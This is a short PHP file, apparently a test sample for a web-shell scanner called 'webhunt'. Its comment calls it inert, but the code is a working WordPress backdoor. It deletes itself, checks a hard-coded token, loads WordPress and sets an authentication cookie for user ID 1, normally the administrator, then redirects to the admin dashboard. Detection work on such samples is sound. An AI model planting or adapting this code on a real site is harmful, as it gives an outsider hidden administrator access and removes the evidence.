<?php
// Inert test sample (webhunt): a one-shot page that deletes itself, checks a fixed token, and logs
// the visitor in to the blog as the first account.
@unlink(__FILE__);
if (!isset($_GET['t']) || $_GET['t'] !== 'k3y-0000') {
    exit('no');
}
require 'wp-load.php';
$first = get_userdata(1);
wp_clear_auth_cookie();
wp_set_current_user($first->ID);
wp_set_auth_cookie($first->ID);
wp_safe_redirect(admin_url());
exit;
